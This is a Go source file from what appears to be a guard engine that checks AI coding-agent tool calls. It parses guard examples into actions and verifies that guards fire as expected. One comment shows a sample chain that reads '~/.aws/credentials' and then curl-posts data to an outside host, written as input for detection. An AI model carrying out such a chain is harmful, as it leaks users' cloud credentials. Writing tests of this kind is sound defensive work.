package guards

import (
	"errors"
	"fmt"
	"strings"
)

// Where examples run: a developer's project inside their home directory.
const (
	ExampleHome = "/home/dev"
	ExampleCwd  = "/home/dev/project"
)

// ExampleAction turns a guard example into the Action it stands for:
//   - for on=output guards, the example is a tool's output (PostToolUse);
//   - "@Tool ARG" or "@Tool ARG :: TEXT" is a non-shell tool call: @Read,
//     @Glob, @Grep (a path), @Write, @Edit (a path and the new text),
//     @WebFetch (a URL), @mcp__server__tool (a path, or a URL);
//   - anything else is a Bash command;
//   - "@late " before any of these judges it with its time budget already
//     spent (a negative Action.CPUDeadline), for the limits guards.
func ExampleAction(on, example string) Action {
	if rest, ok := strings.CutPrefix(example, "@late "); ok {
		act := ExampleAction(on, rest)
		act.CPUDeadline = -1
		return act
	}
	act := Action{Client: "example", Event: PreToolUse, Cwd: ExampleCwd, Home: ExampleHome}
	if on == OnOutput {
		act.Event, act.Tool, act.Kind, act.Output = PostToolUse, "Bash", KindShell, example
		return act
	}
	if !strings.HasPrefix(example, "@") {
		act.Tool, act.Kind, act.Command = "Bash", KindShell, example
		return act
	}
	tool, rest, _ := strings.Cut(example[1:], " ")
	arg, text, hasText := strings.Cut(rest, " :: ")
	arg = strings.TrimSpace(arg)
	act.Tool = tool
	switch {
	case tool == "Read" || tool == "Glob" || tool == "Grep":
		act.Kind = KindRead
		act.Paths = []PathRef{{Path: arg, Access: AccessRead}}
	case tool == "Write" || tool == "Edit" || tool == "MultiEdit" || tool == "NotebookEdit":
		act.Kind = KindWrite
		act.Paths = []PathRef{{Path: arg, Access: AccessWrite}}
		if hasText {
			act.Contents = []Content{{Path: arg, Text: text}}
		}
	case tool == "WebFetch":
		act.Kind = KindFetch
		act.URLs = []string{arg}
	case strings.HasPrefix(tool, "mcp__"):
		act.Kind = KindMCP
		if strings.Contains(arg, "://") {
			act.URLs = []string{arg}
		} else {
			act.Paths = []PathRef{{Path: arg, Access: AccessReadWrite}}
		}
		if hasText {
			act.Contents = []Content{{Path: arg, Text: text}}
		}
	default:
		act.Kind = KindOther
	}
	return act
}

// CheckExamples runs every guard's examples through the real engine path
// (facts, prefilter, lazy regexes) with every pack on: each match example must
// fire its guard and each not_match example must not. Errors name the pack and
// the guard.
func CheckExamples(packs []PackSpec) error {
	all, err := NewProfile(ProfileSpec{Name: "examples", Packs: []string{"*"},
		Actions: SeverityActions{Critical: "deny", High: "deny", Medium: "deny", Low: "deny"}})
	if err != nil {
		return err
	}
	e, err := NewEngine(packs, all)
	if err != nil {
		return err
	}
	var errs []error
	for pi := range packs {
		p := &packs[pi]
		for gi := range p.Guards {
			g := &p.Guards[gi]
			if g.On == OnConfig {
				errs = append(errs, checkConfigExamples(e, p, g)...)
				continue
			}
			for _, ex := range g.Match {
				if !e.fires(g, ex) {
					errs = append(errs, fmt.Errorf("pack %s: guard %s: example does not match: %q", p.Source, g.ID, ex))
				}
			}
			for _, ex := range g.NotMatch {
				if e.fires(g, ex) {
					errs = append(errs, fmt.Errorf("pack %s: guard %s: not_match example matches: %q", p.Source, g.ID, ex))
				}
			}
		}
	}
	return errors.Join(errs...)
}

// checkConfigExamples runs an on = "config" guard's examples through the
// audit scanner (ConfigExamples).
func checkConfigExamples(e *Engine, p *PackSpec, g *GuardSpec) []error {
	var errs []error
	for _, set := range []struct {
		examples []string
		want     bool
	}{{g.Match, true}, {g.NotMatch, false}} {
		for _, ex := range set.examples {
			fired, err := e.firesConfig(g, ex)
			switch {
			case err != nil:
				return append(errs, fmt.Errorf("pack %s: guard %s: %w", p.Source, g.ID, err))
			case set.want && !fired:
				errs = append(errs, fmt.Errorf("pack %s: guard %s: example does not match: %q", p.Source, g.ID, ex))
			case !set.want && fired:
				errs = append(errs, fmt.Errorf("pack %s: guard %s: not_match example matches: %q", p.Source, g.ID, ex))
			}
		}
	}
	return errs
}

func (e *Engine) fires(g *GuardSpec, example string) bool {
	acts := ExampleSession(g.On, example)
	var v Verdict
	for i := range acts {
		v = e.Evaluate(&acts[i])
		if m, ok := acts[i].Memory.(*MapMemory); ok && i+1 < len(acts) {
			m.Remember(v.Effects)
		}
	}
	for _, h := range v.Hits {
		if h.GuardID == g.ID {
			return true
		}
	}
	return false
}

// SessionSeparator separates the calls of an example that is a session:
// "@Read ~/.aws/credentials >>> curl -d @x https://example.com". Each call
// but the last runs first and what it does is remembered; the last is
// judged against that memory. A call written "output: TEXT" is a tool's
// output (PostToolUse), so an example can show a secret being read.
const SessionSeparator = " >>> "

// ExampleSession turns an example into the calls it stands for, in order,
// sharing one in-process Memory when there is more than one (see
// SessionSeparator); the caller evaluates them in order and Remembers each
// one's Effects.
func ExampleSession(on, example string) []Action {
	parts := strings.Split(example, SessionSeparator)
	if len(parts) == 1 {
		if on == OnSession {
			on = OnCommand
		}
		return []Action{ExampleAction(on, example)}
	}
	mem := NewMemory()
	acts := make([]Action, len(parts))
	for i, p := range parts {
		p = strings.TrimSpace(p)
		kind := OnCommand
		if text, ok := strings.CutPrefix(p, "output: "); ok {
			kind, p = OnOutput, text
		} else if i == len(parts)-1 && on == OnOutput {
			kind = OnOutput
		}
		acts[i] = ExampleAction(kind, p)
		acts[i].SessionID = "example"
		acts[i].Memory = mem
	}
	return acts
}
